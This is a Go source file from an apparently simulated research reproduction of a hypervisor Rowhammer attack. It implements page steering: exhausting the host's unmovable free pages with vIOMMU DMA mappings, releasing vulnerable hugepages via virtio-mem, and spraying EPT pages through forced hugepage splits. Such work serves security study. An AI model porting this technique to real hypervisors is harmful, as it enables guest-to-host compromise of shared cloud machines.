package attack

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"time"

	"hyperhammer/internal/guest"
	"hyperhammer/internal/memdef"
	"hyperhammer/internal/simtime"
	"hyperhammer/internal/viommu"
)

// SteerResult summarizes one Page Steering run (Section 4.2).
type SteerResult struct {
	// IOVAMappings is how many DMA mappings were created to exhaust
	// the host's small-order unmovable free blocks (Step 1).
	IOVAMappings int
	// Released lists the victims whose hugepages were voluntarily
	// released to the host (Step 2), with their pre-release location
	// retained for the exploitation step.
	Released []ReleasedVictim
	// SprayedHugepages is how many hugepages were executed on to
	// force EPT page creation (Step 3); each successful split
	// allocates one EPT page.
	SprayedHugepages int
	// Splits is how many hugepage splits the spray actually caused.
	Splits int
	// Duration is the simulated time steering took.
	Duration time.Duration
}

// ReleasedVictim is a vulnerable bit whose containing hugepage has
// been released to the host. The aggressor addresses remain valid in
// the attacker's address space; the victim's former virtual address
// records where the bit sat within its (now released) 2 MiB block.
type ReleasedVictim struct {
	Bit VulnBit
	// PageIndex is the victim page's index within its released
	// 2 MiB block (0..511).
	PageIndex int
	// ByteInPage and BitInByte locate the cell within the page.
	ByteInPage int
	BitInByte  uint
}

// PageSteer performs the Page Steering attack of Section 4.2 on the
// buffer left allocated by Profile:
//
//  1. Exhaust the host's small-order MIGRATE_UNMOVABLE free blocks by
//     creating thousands of 2 MiB-spaced vIOMMU mappings to a single
//     guest page, each consuming one host IOPT page (Section 4.2.1).
//  2. Voluntarily release the hugepages containing the chosen
//     vulnerable bits through the modified virtio-mem driver
//     (Section 4.2.2).
//  3. Execute code in every remaining hugepage of the buffer, forcing
//     the iTLB Multihit countermeasure to split each one and allocate
//     an EPT page — with high likelihood consuming the released
//     vulnerable pages (Section 4.2.3).
//
// victims must come from a prior Profile on the same guest.
func PageSteer(os *guest.OS, cfg Config, buf Buffer, victims []VulnBit) (*SteerResult, error) {
	span := cfg.startSpan("attack.steer", "victims", len(victims))
	res, err := pageSteer(os, cfg, buf, victims)
	if err != nil {
		span.End("err", err)
		return nil, err
	}
	span.End("iovaMappings", res.IOVAMappings, "released", len(res.Released), "splits", res.Splits)
	cfg.observePhase("steer", res.Duration)
	if m := cfg.Metrics; m != nil {
		m.Counter("attack_released_blocks_total", "Victim hugepage blocks voluntarily released to the host.").Add(uint64(len(res.Released)))
		m.Counter("attack_spray_splits_total", "Hugepage splits forced by the EPT spray.").Add(uint64(res.Splits))
	}
	return res, nil
}

func pageSteer(os *guest.OS, cfg Config, buf Buffer, victims []VulnBit) (*SteerResult, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	sw := simtime.NewStopwatch(os.Clock())
	res := &SteerResult{}
	os.InstallAttackDriver()

	// Step 1: exhaust noise pages. One page of the buffer serves as
	// the DMA target for every mapping; mappings are spaced 2 MiB in
	// IOVA space so each consumes a fresh IOPT leaf page. The budget
	// is spread across all assigned IOMMU groups (65,535 per group).
	if os.Groups() == 0 {
		return nil, fmt.Errorf("attack: no assigned IOMMU group; VFIO device required")
	}
	dmaTarget := buf.Base
	remaining := cfg.IOVAMappings
	for group := 0; group < os.Groups() && remaining > 0; group++ {
		iova := iovaBase
		for remaining > 0 {
			err := os.MapDMA(group, iova, dmaTarget)
			if errors.Is(err, viommu.ErrMapLimit) {
				break // next group, if any
			}
			if err != nil {
				return nil, fmt.Errorf("attack: DMA mapping: %w", err)
			}
			res.IOVAMappings++
			remaining--
			iova += memdef.HugePageSize
		}
	}

	// Step 2: release the vulnerable hugepages. Victims sharing a
	// hugepage with any kept aggressor must be skipped, as must
	// duplicates and the DMA target's hugepage.
	scratch := scratchOf(cfg)
	keep := scratch.gvaSet(&scratch.keep)
	keep[memdef.HugeBase(dmaTarget)] = true
	for _, v := range victims {
		keep[memdef.HugeBase(v.AggressorA)] = true
		keep[memdef.HugeBase(v.AggressorB)] = true
	}
	released := scratch.gvaSet(&scratch.released)
	for _, v := range victims {
		hp := v.Flip.HugepageBase()
		if keep[hp] || released[hp] {
			continue
		}
		if err := os.ReleaseHugepage(v.Flip.GVA); err != nil {
			return nil, fmt.Errorf("attack: releasing %#x: %w", v.Flip.GVA, err)
		}
		released[hp] = true
		if len(released) >= cfg.TargetBits {
			break
		}
	}
	if len(released) == 0 {
		return nil, fmt.Errorf("attack: no releasable victim hugepages")
	}
	// A released block occasionally contains more than one profiled
	// bit; every one of them is now a live target (the paper assumes
	// one per block, the common case).
	for _, v := range victims {
		hp := v.Flip.HugepageBase()
		if !released[hp] {
			continue
		}
		off := uint64(v.Flip.GVA - hp)
		res.Released = append(res.Released, ReleasedVictim{
			Bit:        v,
			PageIndex:  int(off / memdef.PageSize),
			ByteInPage: int(off % memdef.PageSize),
			BitInByte:  v.Flip.Bit,
		})
	}

	// Step 3: spray EPT pages. Write the idling function into every
	// remaining hugepage of the buffer and execute it; each first
	// execution under the NX-hugepage countermeasure splits the
	// hugepage, allocating one EPT leaf page from the host's
	// unmovable free lists — which the released blocks now dominate.
	// A seeded shuffle of the spray order redraws the chunk-to-frame
	// pairing on every attempt.
	order := scratch.intSlice(buf.Hugepages)
	for i := range order {
		order[i] = i
	}
	if cfg.SpraySeed != 0 {
		rng := rand.New(rand.NewPCG(cfg.SpraySeed, cfg.SpraySeed^0xD1B54A32D192ED03))
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
	}
	for _, hp := range order {
		hugeBase := buf.HugepageBase(hp)
		if released[hugeBase] {
			continue
		}
		// The idling function of Listing 1: prologue, nops, ret.
		// One word of actual code is enough to fetch from.
		if err := os.Write64(hugeBase, 0xC3909090_90E58955); err != nil {
			return nil, fmt.Errorf("attack: writing spray code: %w", err)
		}
		split, err := os.Exec(hugeBase)
		if err != nil {
			return nil, fmt.Errorf("attack: spray exec: %w", err)
		}
		res.SprayedHugepages++
		if split {
			res.Splits++
		}
	}
	res.Duration = sw.Elapsed()
	return res, nil
}
